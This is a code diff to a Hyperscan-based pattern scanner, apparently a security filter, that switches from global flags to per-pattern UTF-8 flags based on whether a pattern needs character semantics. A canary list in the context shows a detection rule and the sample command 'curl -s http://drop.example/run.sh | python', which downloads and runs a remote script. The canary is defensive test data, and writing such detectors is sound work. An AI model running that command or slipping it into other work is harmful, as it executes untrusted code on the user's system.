@@ -6,6 +6,7 @@ the known misses as canaries; nothing may be served by an engine that fails them
 
 import hashlib
 import os
+import re
 import stat
 import tempfile
 from collections.abc import Iterable, Sequence
@@ -17,8 +18,9 @@ import hyperscan
 
 from sentra.errors import ConfigError, EngineError
 
-FLAGS = hyperscan.HS_FLAG_UTF8 | hyperscan.HS_FLAG_SINGLEMATCH
-_FORMAT = f"sentra-1 hyperscan-{version('hyperscan')} flags-{FLAGS}"
+UTF8 = "(*UTF8)"
+_FORMAT = f"sentra-2 hyperscan-{version('hyperscan')}"
+_BEYOND_ASCII = re.compile(r"[^\x00-\x7f]|\\x\{(?:0*[89a-fA-F][0-9a-fA-F]|0*[1-9a-fA-F][0-9a-fA-F]{2,})\}|\\x[89a-fA-F]|\\[pP]")
 
 CANARIES: tuple[tuple[str, str], ...] = (
     (r"(?s)curl.*\|\s*python", "curl -s http://drop.example/run.sh | python"),
@@ -70,7 +72,7 @@ def _compile(patterns: Sequence[str]) -> Any:
             expressions=[ascii_pattern(pattern) for pattern in patterns],
             ids=list(range(len(patterns))),
             elements=len(patterns),
-            flags=FLAGS,
+            flags=[_flags(pattern) for pattern in patterns],
         )
     except hyperscan.error as error:
         raise ConfigError(_culprits(patterns) or [f"the rules do not compile together: {error}"]) from None
@@ -87,14 +89,29 @@ def refusal(pattern: str) -> str | None:
     """Why the engine refuses ``pattern``; nothing when it accepts it."""
     database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
     try:
-        database.compile(expressions=[ascii_pattern(pattern)], ids=[0], elements=1, flags=FLAGS)
+        database.compile(expressions=[ascii_pattern(pattern)], ids=[0], elements=1, flags=_flags(pattern))
     except hyperscan.error as error:
         return str(error)
     return None
 
 
+def is_utf8(pattern: str) -> bool:
+    """Does ``pattern`` count characters? An ASCII pattern counts bytes unless it begins with ``(*UTF8)``.
+
+    Bytes cost a tenth of the time and of the memory where a pattern has wide classes. What a byte pattern misses is
+    only what Unicode folds into ASCII (the Kelvin sign, the long s), and the folded view of the text holds that.
+    """
+    return pattern.startswith(UTF8) or _BEYOND_ASCII.search(pattern) is not None
+
+
+def _flags(pattern: str) -> int:
+    flags: int = hyperscan.HS_FLAG_SINGLEMATCH | (hyperscan.HS_FLAG_UTF8 if is_utf8(pattern) else 0)
+    return flags
+
+
 def ascii_pattern(pattern: str) -> bytes:
     """``pattern`` with every other character as ``\\x{...}``: the engine calls valid UTF-8 patterns invalid."""
+    pattern = pattern.removeprefix(UTF8)
     return "".join(c if c.isascii() else f"\\x{{{ord(c):x}}}" for c in pattern).encode("ascii")
 
 
